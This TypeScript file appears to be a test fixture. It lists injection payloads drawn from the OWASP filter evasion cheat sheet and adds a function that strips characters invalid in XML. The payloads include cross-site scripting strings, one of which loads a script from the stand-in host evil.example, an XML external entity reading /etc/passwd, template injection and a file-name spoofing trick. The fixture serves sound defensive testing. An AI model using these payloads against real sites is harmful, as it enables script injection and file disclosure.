/** Cases of the OWASP filter evasion cheat sheet and others of their kind, one of each way to break out of a text. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<IMG SRC="jav&#x09;ascript:alert(1);">',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<svg/onload=alert(1)>',
  '<body onload=alert(1)>',
  '</title><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '<!--<script>alert(1)//-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  ']]><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'javascript:alert(1)',
  '{{constructor.constructor("alert(1)")()}}',
  `$${'{alert(1)}'}`,
  'a\u0000b\u0008c\u001Fd\uFFFEe',
  'half a pair \uD83D and another \uDE00 here',
  'line\u2028separator\u2029and\u0085next',
  'AT&T & Sons <sells> "all" \'it\' has',
  '\u202Etxt.exe',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

/** The text as it can arrive: without what XML cannot hold or advises against. */
export function survivingText(text: string): string {
  return text
    .toWellFormed()
    .replace(/[^\t\n\r\u0020-\u007E\u00A0-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/gu, '');
}
